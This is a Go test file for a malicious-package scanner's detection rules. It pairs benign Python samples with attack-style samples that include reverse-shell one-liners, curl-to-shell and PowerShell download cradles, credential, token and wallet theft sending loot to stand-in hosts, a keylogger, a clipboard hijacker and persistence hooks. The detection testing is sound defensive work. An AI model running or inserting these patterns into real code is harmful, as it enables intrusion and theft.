package builtin_test

import (
	"encoding/base64"
	"fmt"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/vipyrsec/dragonfly-client-go/internal/builtin"
	"github.com/vipyrsec/dragonfly-client-go/internal/rules"
)

// Every sample below is an inline string that is only ever matched, never
// run. Even so, each is harmless: encoded blobs decode to print("hello") or
// similar, hosts are example.invalid or TEST-NET addresses (192.0.2.0/24),
// webhook ids and tokens are made up.

func compileBuiltin(t testing.TB) *rules.RuleSet {
	t.Helper()
	rs, err := rules.Compile("", builtin.Sources())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(rs.Close)
	return rs
}

func newMatcher(t testing.TB, rs *rules.RuleSet) *rules.Matcher {
	t.Helper()
	m, err := rs.NewMatcher(10 * time.Second)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(m.Close)
	return m
}

// matchNames returns the names of the public rules that matched src, and
// the subset of them that count for path.
func matchNames(t testing.TB, rs *rules.RuleSet, m *rules.Matcher, path, src string) (matched, counted []string) {
	t.Helper()
	idx, err := m.Match([]byte(src), nil)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	rules := rs.Rules()
	for _, i := range idx {
		r := rules[i]
		matched = append(matched, r.Name)
		if r.CountsFor(path) {
			counted = append(counted, r.Name)
		}
	}
	sort.Strings(matched)
	sort.Strings(counted)
	return matched, counted
}

func TestSourcesShape(t *testing.T) {
	src := builtin.Sources()
	if len(src) < 8 {
		t.Fatalf("only %d rule files", len(src))
	}
	for key, text := range src {
		if strings.Contains(key, ".") || strings.Contains(key, "/") {
			t.Errorf("key %q should be a bare file name without extension", key)
		}
		if strings.TrimSpace(text) == "" {
			t.Errorf("%s is empty", key)
		}
	}
	// A fresh map each call: changing one must not change the next.
	src["extra"] = "rule extra { condition: false }"
	if _, ok := builtin.Sources()["extra"]; ok {
		t.Error("Sources returned a shared map")
	}
}

func TestCompilesCleanly(t *testing.T) {
	rs := compileBuiltin(t)
	for _, w := range rs.Warnings() {
		t.Errorf("warning: %s", w)
	}
	public := 0
	for _, r := range rs.Rules() {
		if r.Private {
			continue
		}
		public++
		if r.Weight == 0 {
			t.Errorf("%s: no integer weight", r.Name)
		}
		if r.Weight < 0 || r.Weight > 10 {
			t.Errorf("%s: weight %d outside 1..10", r.Name, r.Weight)
		}
		if strings.TrimSpace(r.Description) == "" {
			t.Errorf("%s: no description", r.Name)
		}
		for _, ft := range r.FileTypes {
			if !strings.HasPrefix(ft, ".") && ft != "setup.py" {
				t.Errorf("%s: odd filetype %q", r.Name, ft)
			}
		}
	}
	if public < 20 {
		t.Errorf("%d public rules, want at least 20", public)
	}
}

// Each file compiles on its own and names its rules after itself, so that
// files can be merged with the mainframe's in any combination.
func TestFilesAreSelfContained(t *testing.T) {
	for key, text := range builtin.Sources() {
		rs, err := rules.Compile("", map[string]string{key: text})
		if err != nil {
			t.Errorf("%s alone: %v", key, err)
			continue
		}
		for _, r := range rs.Rules() {
			if !strings.HasPrefix(r.Name, key+"_") {
				t.Errorf("%s: rule %s should be prefixed %q", key, r.Name, key+"_")
			}
		}
		rs.Close()
	}
}

type sample struct {
	path string
	src  string
}

// ruleCase holds, for one public rule, samples that must match it and count
// for their path, and samples that must not (or must not count).
type ruleCase struct {
	bad  []sample
	good []sample
}

// bigBlob returns a base64 literal of well over 1000 characters whose
// decoding is comment lines and a print.
func bigBlob() string {
	code := strings.Repeat("# just padding for the large-blob rule\n", 40) + "print('hello')\n"
	return base64.StdEncoding.EncodeToString([]byte(code))
}

// hexEscape spells s as \xNN escapes, the way obfuscators write source.
func hexEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "\\x%02x", s[i])
	}
	return b.String()
}

var ruleCases = map[string]ruleCase{
	// ---- exec.yar ----
	"exec_base64_blob": {
		bad: []sample{
			{"evil-0.1/evil/__init__.py", `
import base64
exec(base64.b64decode("cHJpbnQoImhlbGxvIik="))
`},
			{"evil/loader.py", `x = 1
exec(__import__('base64').b64decode(b'cHJpbnQoImhlbGxvIik=').decode())
`},
			{"evil/two_step.py", `
import base64
PAYLOAD = "cHJpbnQoImhlbGxvIik="
code = base64.b64decode(PAYLOAD)
exec(code)
`},
		},
		good: []sample{
			{"client/auth.py", `
import base64
import json


def basic_auth(user, password):
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    return {"Authorization": f"Basic {token}"}


def jwt_claims(jwt):
    payload = jwt.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(payload + "=="))
`},
			{"ml/weights.py", `
import base64
weights = base64.b64decode(blob)
model.load(weights)
model.eval()
`},
			// Documentation about the trick does not count: not a .py file.
			{"docs/README.md", "Attackers write `exec(base64.b64decode(...))` to hide code.\n"},
		},
	},
	"exec_compressed_or_marshalled": {
		bad: []sample{
			{"evil/x.py", `
import zlib, base64
exec(zlib.decompress(base64.b64decode("eJwrKMrMK9FQykjNyclX0gQAJ1oE1w==")))
`},
			{"evil/y.py", `
import marshal, base64
exec(marshal.loads(base64.b64decode("YwAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQLaBWhlbGxvTikB2gVwcmludKkA8wAAAAD6AzxzPvoIPG1vZHVsZT5yBgAAAAEAAABzFgAAAPADAQEB2AAFgAWAZ4EOhA6ADoAOgA5yBAAAAA==")))
`},
		},
		good: []sample{
			{"tools/pycinfo.py", `
import dis
import marshal
import zlib


def read_pyc(path):
    with open(path, "rb") as f:
        code = marshal.loads(f.read()[16:])
    dis.dis(code)


def read_blob(raw):
    return zlib.decompress(raw).decode("utf-8")
`},
		},
	},
	"exec_hex_or_codecs_decoded": {
		bad: []sample{
			{"evil/h.py", `
exec(bytes.fromhex("7072696e74282268656c6c6f2229"))
`},
			{"evil/r.py", `
import codecs
exec(codecs.decode('cevag("uryyb")', "rot13"))
`},
		},
		good: []sample{
			{"crypto/keys.py", `
import binascii
import codecs
import os

key = bytes.fromhex(os.environ["APP_KEY_HEX"])
digest = binascii.hexlify(key)
text = codecs.decode(b"caf\xc3\xa9", "utf-8")
`},
		},
	},
	"exec_dynamic_import_decoder": {
		bad: []sample{
			{"evil/d.py", `
_b = __import__("base64")
_src = _b.b64decode("cHJpbnQoImhlbGxvIik=").decode()
exec(_src)
`},
		},
		good: []sample{
			{"codecs_util.py", `
def load_codec(name):
    mod = __import__("codecs")
    return mod.lookup(name)


def evaluate(model, data):
    model.eval()
    return model(data)
`},
		},
	},

	// ---- obfuscation.yar ----
	"obfuscation_reversed_exec": {
		bad: []sample{
			{"evil/rev.py", `
exec(')"olleh"(tnirp'[::-1])
`},
		},
		good: []sample{
			{"strings_util.py", `
import re

WORD = re.compile(r"\w+")


def is_palindrome(s):
    return s == s[::-1]


def eval_expression(tokens):
    return sum(int(t) for t in tokens[::-1])
`},
		},
	},
	"obfuscation_chr_chain": {
		bad: []sample{
			{"evil/chr.py", `
exec(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+chr(40)+chr(34)+chr(104)+chr(105)+chr(34)+chr(41))
`},
			{"evil/map.py", `
exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 34, 104, 101, 108, 108, 111, 34, 41])))
`},
			{"evil/xor.py", `
data = [90, 88, 67, 68, 94, 2, 8, 66, 79, 70, 70, 69, 8, 3]
exec("".join(chr(c ^ 42) for c in data))
`},
		},
		good: []sample{
			{"term/colors.py", `
ESC = chr(27)
RESET = chr(27) + "[0m"
LETTERS = "".join(chr(ord("a") + i) for i in range(26))


def bold(s):
    return ESC + "[1m" + s + RESET
`},
		},
	},
	"obfuscation_builtins_lookup": {
		bad: []sample{
			{"evil/ga.py", `
getattr(__builtins__, "ex" + "ec")('print("hello")')
`},
			{"evil/sub.py", `
__builtins__.__dict__["exec"]('print("hello")')
`},
			{"evil/lam.py", `
(lambda _, __, ___: _(__(___)))(exec, str, 'print("hello")')
`},
		},
		good: []sample{
			{"shell/ipy.py", `
import builtins

if getattr(builtins, "__IPYTHON__", False):
    MODE = "ipython"
_ = getattr(builtins, "_", None)
handler = lambda _: None
pair = lambda _, __: (_, __)
`},
		},
	},
	"obfuscation_hex_escaped_exec": {
		bad: []sample{
			{"evil/hex.py", `
exec("\x70\x72\x69\x6e\x74\x28\x22\x68\x65\x6c\x6c\x6f\x22\x29")
`},
			{"evil/oct.py", `
eval("\160\162\151\156\164\050\042\150\145\154\154\157\042\051")
`},
			{"evil/compile.py", "exec(compile(\"" + hexEscape("print('hello')\n") + "\", \"<string>\", \"exec\"))\n"},
		},
		good: []sample{
			{"imaging/png.py", `
MAGIC = b"\x89PNG\r\n\x1a\n"
HEADER = b"\x00\x01\x02\x03"


def is_png(data):
    return data[:8] == MAGIC
`},
		},
	},
	"obfuscation_large_encoded_blob": {
		bad: []sample{
			{"evil/blob.py", "import base64\nsrc = base64.b64decode(\"" + bigBlob() + "\")\n"},
		},
		good: []sample{
			{"gui/icon.py", "import base64\nICON = base64.b64decode(\"iVBORw0KGgo" + bigBlob() + "\")\n"},
			{"client/small.py", "import base64\nTOKEN = base64.b64decode(\"aGVsbG8=\")\n"},
		},
	},

	// ---- setup.yar ----
	"setup_shell_download": {
		bad: []sample{
			{"evilpkg-0.1/setup.py", `
import subprocess
from setuptools import setup

subprocess.Popen("curl -s https://example.invalid/x.sh -o /tmp/x.sh", shell=True)
setup(name="evilpkg", version="0.1")
`},
			{"evilpkg-0.1/setup.py", `
import os
from setuptools import setup

os.system("powershell -c (New-Object Net.WebClient).DownloadFile('https://example.invalid/a', 'a')")
setup(name="evilpkg", version="0.1")
`},
		},
		good: []sample{
			{"tool-1.0/setup.py", `
import subprocess
from setuptools import setup


def version():
    try:
        return subprocess.check_output(["git", "describe", "--tags"], text=True).strip()
    except Exception:
        return "0.0.0"


setup(name="tool", version=version(), url="https://github.com/example/tool")
`},
			// The same call in a library module only runs when asked to.
			{"tool-1.0/tool/fetch.py", `
import subprocess


def fetch(url, dest):
    subprocess.run(["curl", "-fsSL", "-o", dest, url], check=True)
`},
		},
	},
	"setup_os_system": {
		bad: []sample{
			{"evilpkg-0.1/setup.py", `
import os
from setuptools import setup

os.system("echo hello > /tmp/harmless_marker")
setup(name="evilpkg", version="0.1")
`},
		},
		good: []sample{
			{"classic-2.0/setup.py", `
import os
import sys

from setuptools import setup

if sys.argv[-1] == "publish":
    os.system("python setup.py sdist bdist_wheel")
    os.system("twine upload dist/*")
    sys.exit()

setup(name="classic", version="2.0", packages=["classic"])
`},
		},
	},
	"setup_network_request": {
		bad: []sample{
			{"evilpkg-0.1/setup.py", `
import urllib.request
from setuptools import setup

urllib.request.urlopen("https://example.invalid/ping?pkg=evilpkg")
setup(name="evilpkg", version="0.1")
`},
		},
		good: []sample{
			{"nice-1.0/setup.py", `
from pathlib import Path

from setuptools import find_packages, setup

setup(
    name="nice",
    version="1.0",
    long_description=Path("README.md").read_text(),
    url="https://example.com/nice",
    project_urls={"Source": "https://github.com/example/nice"},
    packages=find_packages(),
    install_requires=["requests>=2"],
)
`},
			{"nice-1.0/nice/client.py", `
import requests


def get(url):
    return requests.get(url, timeout=10).json()
`},
		},
	},
	"setup_cmdclass_install_hook": {
		bad: []sample{
			{"hooky-1.0/setup.py", `
import subprocess
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call(["echo", "hello"])


setup(name="hooky", version="1.0", cmdclass={"install": PostInstall})
`},
		},
		good: []sample{
			{"proto-1.0/setup.py", `
import subprocess
from setuptools import setup
from setuptools.command.build_py import build_py


class BuildWithProto(build_py):
    def run(self):
        subprocess.check_call(["protoc", "--python_out=.", "api.proto"])
        super().run()


setup(name="proto", version="1.0", cmdclass={"build_py": BuildWithProto})
`},
			{"quiet-1.0/setup.py", `
from setuptools import setup
from setuptools.command.install import install

about = {}
exec(open("quiet/__about__.py").read(), about)


class Install(install):
    def run(self):
        install.run(self)


setup(name="quiet", version=about["__version__"], cmdclass={"install": Install})
`},
		},
	},

	// ---- exfil.yar ----
	"exfil_discord_webhook_url": {
		bad: []sample{
			{"evil/wh.py", `
import requests
WEBHOOK = "https://discord.com/api/webhooks/000/xyz"
requests.post(WEBHOOK, json={"content": "hi"})
`},
		},
		good: []sample{
			{"discordlib/webhook.py", `
import re

WEBHOOK_URL = "https://discord.com/api/webhooks/{webhook_id}/{token}"
WEBHOOK_RE = re.compile(r"discord(?:app)?\.com/api/webhooks/(?P<id>[0-9]{17,20})/(?P<token>[\w.-]{60,68})")


def url_for(webhook_id, token):
    return WEBHOOK_URL.format(webhook_id=webhook_id, token=token)
`},
		},
	},
	"exfil_telegram_bot_token": {
		bad: []sample{
			{"evil/tg.py", `
import requests
requests.post("https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage", data={"chat_id": 1, "text": "hi"})
`},
			{"evil/tg2.py", `
BOT_TOKEN = "123456789:AAFakeTokenForTestsOnly_000000000000"
URL = f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument"
`},
		},
		good: []sample{
			{"tglib/bot.py", `
import os

BASE_URL = "https://api.telegram.org/bot"


class Bot:
    def __init__(self, token=None):
        self.token = token or os.environ["TELEGRAM_TOKEN"]

    def url(self, method):
        return f"{BASE_URL}{self.token}/{method}"
`},
		},
	},
	"exfil_webhook_with_host_info": {
		bad: []sample{
			{"evil/slack.py", `
import getpass
import socket
import requests

info = {"user": getpass.getuser(), "host": socket.gethostname()}
requests.post("https://hooks.slack.com/services/T000/B000/XXXX", json={"text": str(info)})
`},
		},
		good: []sample{
			{"ci/notify.py", `
"""Post a build message to Slack.

Set SLACK_WEBHOOK_URL to https://hooks.slack.com/services/... in the CI settings.
"""
import os
import platform
import socket

import requests


def notify(text):
    body = {"text": f"{text} (python {platform.python_version()} on {socket.gethostname()})"}
    requests.post(os.environ["SLACK_WEBHOOK_URL"], json=body, timeout=10)
`},
		},
	},
	"exfil_oast_domain": {
		bad: []sample{
			{"depconf/__init__.py", `
import socket
import urllib.request

urllib.request.urlopen("http://" + socket.gethostname() + ".abc123.oast.fun/")
`},
		},
		good: []sample{
			{"hooks/server.py", `
from flask import Flask, request

app = Flask(__name__)


@app.route("/webhook", methods=["POST"])
def webhook():
    return {"ok": True, "site": "https://example.com/webhooks"}
`},
		},
	},

	// ---- credentials.yar ----
	"credentials_browser_store": {
		bad: []sample{
			{"evil/chrome.py", `
import json
import os
import shutil

LOCAL = os.getenv("LOCALAPPDATA")
BROWSERS = {"chrome": LOCAL + "\\Google\\Chrome\\User Data"}


def master_key(path):
    with open(os.path.join(path, "Local State")) as f:
        return json.load(f)["os_crypt"]["encrypted_key"]


def steal(path):
    shutil.copy(os.path.join(path, "Default", "Login Data"), "tmp.db")
`},
		},
		good: []sample{
			{"browser/launch.py", `
from selenium import webdriver


def chrome(profile_dir):
    options = webdriver.ChromeOptions()
    options.add_argument(f"--user-data-dir={profile_dir}")
    return webdriver.Chrome(options=options)


def cookies(session):
    return session.cookies.get_dict()
`},
		},
	},
	"credentials_discord_token": {
		bad: []sample{
			{"evil/tokens.py", `
import os
import re

roaming = os.getenv("APPDATA")
path = roaming + "\\discord\\Local Storage\\leveldb"
for name in os.listdir(path):
    with open(os.path.join(path, name), errors="ignore") as f:
        for line in f:
            for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                print(token)
`},
		},
		good: []sample{
			{"bot/main.py", `
import os

import discord

client = discord.Client(intents=discord.Intents.default())
client.run(os.environ["DISCORD_TOKEN"])
`},
			{"store/kv.py", `
import plyvel  # leveldb bindings


def open_db(path):
    return plyvel.DB(path, create_if_missing=True)
`},
		},
	},
	"credentials_cloud_and_ssh_keys": {
		bad: []sample{
			{"evil/keys.py", `
import os
import requests

files = [os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.ssh/id_rsa")]
loot = {f: open(f).read() for f in files if os.path.exists(f)}
requests.post("https://example.invalid/collect", json=loot)
`},
		},
		good: []sample{
			{"cloud/config.py", `
import configparser
import os

import requests

CREDENTIALS = os.path.expanduser("~/.aws/credentials")
CONFIG = os.path.expanduser("~/.aws/config")


def profile(name):
    parser = configparser.ConfigParser()
    parser.read([CREDENTIALS, CONFIG])
    return parser[name]


def report(status):
    requests.post("https://status.example.com/api", json={"status": status})
`},
		},
	},
	"credentials_crypto_wallets": {
		bad: []sample{
			{"evil/wallets.py", `
import os

APPDATA = os.getenv("APPDATA")
WALLETS = [
    os.path.join(APPDATA, "Exodus", "exodus.wallet"),
    APPDATA + "\\Electrum\\wallets",
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
]
`},
		},
		good: []sample{
			{"btc/backup.py", `
import shutil


def backup(datadir, dest):
    """Copy Bitcoin Core's wallet.dat to dest."""
    shutil.copy2(f"{datadir}/wallet.dat", dest)
`},
		},
	},

	// ---- shells.yar ----
	"shells_reverse_shell_dup2": {
		bad: []sample{
			{"evil/rs.py", `
import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
`},
		},
		good: []sample{
			{"daemon/detach.py", `
import os


def daemonize():
    if os.fork():
        os._exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    os.dup2(devnull, 0)
    os.dup2(devnull, 1)
    os.dup2(devnull, 2)
    os.execv("/bin/sh", ["/bin/sh", "-c", "true"])
`},
		},
	},
	"shells_reverse_shell_pty": {
		bad: []sample{
			{"evil/pty.py", `
import os, pty, socket
s = socket.socket(); s.connect(("192.0.2.1", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
`},
		},
		good: []sample{
			{"rec/record.py", `
import os
import pty


def record(logfile):
    with open(logfile, "wb") as log:
        def read(fd):
            data = os.read(fd, 1024)
            log.write(data)
            return data
        pty.spawn(["/bin/bash"], read)
`},
		},
	},
	"shells_command_loop": {
		bad: []sample{
			{"evil/loop.py", `
import socket
import subprocess

s = socket.socket()
s.connect(("192.0.2.1", 8080))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.send(out.stdout + out.stderr)
`},
		},
		good: []sample{
			{"net/echo.py", `
import socket


def echo(host, port, msg):
    with socket.socket() as s:
        s.connect((host, port))
        s.sendall(msg)
        return s.recv(4096)
`},
		},
	},
	"shells_shell_one_liner": {
		bad: []sample{
			{"pkg/scripts/post.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"},
			{"evil/fifo.py", `
import os
os.system("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f")
`},
			{"evil/nc.py", `
import subprocess
subprocess.call("nc -e /bin/sh 192.0.2.1 4444", shell=True)
`},
		},
		good: []sample{
			{"scripts/wait-for.sh", `#!/bin/bash
until timeout 1 bash -c "echo > /dev/tcp/$HOST/$PORT"; do sleep 1; done
nc -z "$HOST" "$PORT"
`},
		},
	},

	// ---- miners.yar ----
	"miners_stratum_url": {
		bad: []sample{
			{"evil/miner.py", `POOL = "stratum+tcp://pool.example.invalid:3333"
`},
			{"evil/config.json", `{"url": "stratum+ssl://pool.example.invalid:443"}`},
		},
		good: []sample{
			{"geo/layers.py", `
LAYERS = ["stratum", "corneum"]


def stratum_depth(stratum):
    return stratum["depth"]
`},
		},
	},
	"miners_xmrig": {
		bad: []sample{
			{"evil/xm.py", `
import subprocess
subprocess.Popen(["./xmrig", "-o", "pool.example.invalid:443", "--donate-level=1"])
`},
		},
		good: []sample{
			{"watch/procs.py", `
SUSPICIOUS = {"xmrig", "minerd", "cpuminer"}


def suspicious(names):
    return sorted(SUSPICIOUS & set(names))
`},
		},
	},

	// ---- dropper.yar ----
	"dropper_exec_downloaded_code": {
		bad: []sample{
			{"evil/dl.py", `
import urllib.request
exec(urllib.request.urlopen("https://example.invalid/stage2.py").read())
`},
			{"evil/dl2.py", `
import requests
r = requests.get("https://example.invalid/stage2.py")
exec(r.text)
`},
		},
		good: []sample{
			{"conf/load.py", `
import requests


def load_settings(path):
    ns = {}
    with open(path) as f:
        exec(f.read(), ns)
    return ns


def remote_settings(url):
    return requests.get(url, timeout=5).json()
`},
		},
	},
	"dropper_download_and_run_executable": {
		bad: []sample{
			{"evil/exe.py", `
import os
import subprocess
import urllib.request

path = os.path.join(os.getenv("TEMP"), "update.exe")
urllib.request.urlretrieve("https://example.invalid/update.exe", path)
subprocess.Popen([path], creationflags=subprocess.CREATE_NO_WINDOW)
`},
			{"evil/elf.py", `
import os
import requests

data = requests.get("https://example.invalid/agent").content
with open("/tmp/agent", "wb") as f:
    f.write(data)
os.chmod("/tmp/agent", 0o755)
os.system("/tmp/agent &")
`},
		},
		good: []sample{
			{"data/fetch.py", `
import subprocess

import requests


def fetch_dataset(url, dest):
    with open(dest, "wb") as f:
        f.write(requests.get(url, timeout=30).content)
    subprocess.run(["unzip", "-o", dest], check=True)
`},
		},
	},
	"dropper_pipe_to_shell": {
		bad: []sample{
			{"evil/pipe.py", `
import os
os.system("curl -fsSL https://example.invalid/install.sh | sh")
`},
		},
		good: []sample{
			{"tools/api.py", `
import subprocess


def pretty(url):
    # equivalent of: curl -s URL | jq .
    raw = subprocess.run(["curl", "-s", url], capture_output=True, check=True).stdout
    return subprocess.run(["jq", "."], input=raw, capture_output=True).stdout
`},
		},
	},

	// ---- windows.yar ----
	"windows_powershell_encoded": {
		bad: []sample{
			{"evil/ps.py", `
import subprocess
subprocess.Popen("powershell -NoP -W Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A")
`},
			{"evil/ps2.py", `
import os
os.system("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')\"")
`},
		},
		good: []sample{
			{"win/env.py", `
import subprocess


def env():
    out = subprocess.run(["powershell", "-NoProfile", "-Command", "Get-ChildItem Env:"], capture_output=True)
    return out.stdout.decode("utf-8")
`},
			// An installer one-liner in a README does not count.
			{"README.md", "Install Chocolatey: `powershell -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://example.com/install.ps1'))\"`\n"},
		},
	},
	"windows_lolbin_download": {
		bad: []sample{
			{"evil/cu.py", `
import os
os.system("certutil -urlcache -split -f https://example.invalid/a.exe a.exe")
`},
			{"evil/run.bat", "@echo off\r\nbitsadmin /transfer job https://example.invalid/a.exe %TEMP%\\a.exe\r\n"},
		},
		good: []sample{
			{"win/hash.py", `
import subprocess


def sha256(path):
    return subprocess.run(["certutil", "-hashfile", path, "SHA256"], capture_output=True).stdout
`},
		},
	},
	"windows_defender_tampering": {
		bad: []sample{
			{"evil/av.py", `
import subprocess
subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath C:\\Users\\Public"])
`},
		},
		good: []sample{
			{"win/status.py", `
import subprocess


def defender_status():
    """Windows Defender can slow builds down; report its state."""
    return subprocess.run(["powershell", "-Command", "Get-MpComputerStatus"], capture_output=True)
`},
		},
	},
	"windows_autorun_persistence": {
		bad: []sample{
			{"evil/run.py", `
import sys
import winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
`},
			{"evil/cron.py", `
import subprocess
subprocess.run("(crontab -l; echo '@reboot python3 -c pass') | crontab -", shell=True)
`},
		},
		good: []sample{
			{"win/pyreg.py", `
import subprocess
import winreg


def python_installs():
    key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Python\PythonCore")
    return winreg.QueryInfoKey(key)[0]


def cron_jobs():
    return subprocess.run(["crontab", "-l"], capture_output=True).stdout
`},
		},
	},

	// ---- pth.yar ----
	"pth_executes_code": {
		bad: []sample{
			{"site-packages/zz_init.pth", "import base64;exec(base64.b64decode('cHJpbnQoImhlbGxvIik='))\n"},
			{"site-packages/aaa.pth", "mypkg\nimport os; os.system('echo hello')\n"},
		},
		good: []sample{
			{"site-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; on = os.environ.get(var, 'local') == 'local' and __import__('_distutils_hack').add_shim(); \n"},
			{"site-packages/__editable__.mypkg-1.0.pth", "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n"},
			{"site-packages/mypkg.pth", "/home/user/src/mypkg\n"},
			// The same code as a module is not a .pth hook.
			{"mypkg/boot.py", "import os; os.system('echo hello')\n"},
		},
	},

	// ---- spyware.yar ----
	"spyware_anti_vm_checks": {
		bad: []sample{
			{"evil/vm.py", `
import sys
import psutil

BLACKLISTED_PROCESSES = ["vboxservice", "vboxtray", "vmtoolsd", "wireshark", "fiddler", "x64dbg"]
for proc in psutil.process_iter():
    if proc.name().lower().removesuffix(".exe") in BLACKLISTED_PROCESSES:
        sys.exit(0)
`},
		},
		good: []sample{
			{"platforminfo/virt.py", `
def hypervisor(product_name):
    for vendor in ("VirtualBox", "VMware", "QEMU", "KVM", "Xen"):
        if vendor.lower() in product_name.lower():
            return vendor
    return None
`},
		},
	},
	"spyware_clipboard_hijacker": {
		bad: []sample{
			{"evil/clip.py", `
import re
import time

import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$")
while True:
    text = pyperclip.paste()
    if BTC.match(text):
        pyperclip.copy("bc1qexampleexampleexampleexample0000")
    time.sleep(0.5)
`},
		},
		good: []sample{
			{"cli/clip.py", `
import pyperclip


def copy_result(result):
    pyperclip.copy(result)
    return pyperclip.paste() == result
`},
		},
	},
	"spyware_keylogger": {
		bad: []sample{
			{"evil/keys.py", `
import requests
from pynput import keyboard

WEBHOOK = "https://discord.com/api/webhooks/000/xyz"
buf = []


def on_press(key):
    buf.append(str(key))
    if len(buf) > 100:
        requests.post(WEBHOOK, json={"content": "".join(buf)})
        buf.clear()


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
`},
		},
		good: []sample{
			{"hotkeys/main.py", `
from pynput import keyboard


def on_activate():
    print("hotkey pressed")


with keyboard.GlobalHotKeys({"<ctrl>+<alt>+h": on_activate}) as h:
    h.join()
`},
		},
	},
}

// TestEveryRuleHasCases makes a new rule fail the build until it comes with
// samples, and a renamed rule until its samples follow.
func TestEveryRuleHasCases(t *testing.T) {
	rs := compileBuiltin(t)
	seen := map[string]bool{}
	for _, r := range rs.Rules() {
		if r.Private {
			continue
		}
		seen[r.Name] = true
		c, ok := ruleCases[r.Name]
		switch {
		case !ok:
			t.Errorf("public rule %s has no entry in ruleCases", r.Name)
		case len(c.bad) == 0:
			t.Errorf("rule %s has no malicious sample", r.Name)
		case len(c.good) == 0:
			t.Errorf("rule %s has no benign sample", r.Name)
		}
	}
	for name := range ruleCases {
		if !seen[name] {
			t.Errorf("ruleCases has %s, which is not a public rule", name)
		}
	}
}

func TestRuleCases(t *testing.T) {
	rs := compileBuiltin(t)
	m := newMatcher(t, rs)
	names := make([]string, 0, len(ruleCases))
	for name := range ruleCases {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		c := ruleCases[name]
		t.Run(name, func(t *testing.T) {
			r, ok := rs.Rule(name)
			if !ok {
				t.Fatalf("no rule %s", name)
			}
			for i, s := range c.bad {
				matched, counted := matchNames(t, rs, m, s.path, s.src)
				if !slices.Contains(matched, name) {
					t.Errorf("bad[%d] %s: did not match (matched %v)", i, s.path, matched)
				} else if !slices.Contains(counted, name) {
					t.Errorf("bad[%d] %s: matched but does not count for the path (filetype %v)", i, s.path, r.FileTypes)
				}
			}
			for i, s := range c.good {
				_, counted := matchNames(t, rs, m, s.path, s.src)
				if slices.Contains(counted, name) {
					t.Errorf("good[%d] %s: counted", i, s.path)
				}
			}
		})
	}
}

// benignCorpus is ordinary Python of the kinds that share keywords with the
// rules: subprocess, requests, base64, sockets, setuptools.
var benignCorpus = []sample{
	{"gitstat-1.2.0/gitstat/cli.py", `
"""Summarise a git repository's recent activity."""
import argparse
import collections
import subprocess
import sys


def git(*args, cwd="."):
    out = subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)
    return out.stdout


def authors(since, cwd="."):
    log = git("log", f"--since={since}", "--format=%an", cwd=cwd)
    return collections.Counter(line for line in log.splitlines() if line)


def main(argv=None):
    parser = argparse.ArgumentParser(prog="gitstat")
    parser.add_argument("--since", default="1 month ago")
    parser.add_argument("path", nargs="?", default=".")
    args = parser.parse_args(argv)
    try:
        counts = authors(args.since, cwd=args.path)
    except subprocess.CalledProcessError as e:
        print(e.stderr, file=sys.stderr)
        return e.returncode
    for name, n in counts.most_common():
        print(f"{n:5d}  {name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
`},
	{"weatherly-0.4.1/weatherly/client.py", `
"""A small client for a JSON weather API."""
import base64
import json
import logging
import os
import time

import requests

log = logging.getLogger(__name__)
API = os.environ.get("WEATHERLY_API", "https://api.example.com/v1")


class Client:
    def __init__(self, user, key, session=None):
        token = base64.b64encode(f"{user}:{key}".encode()).decode()
        self.session = session or requests.Session()
        self.session.headers["Authorization"] = f"Basic {token}"

    def forecast(self, city, days=3):
        for attempt in range(3):
            r = self.session.get(f"{API}/forecast", params={"q": city, "days": days}, timeout=10)
            if r.status_code == 429:
                time.sleep(2 ** attempt)
                continue
            r.raise_for_status()
            return r.json()
        raise RuntimeError("rate limited")

    def upload(self, path):
        with open(path, "rb") as f:
            data = base64.b64encode(f.read()).decode()
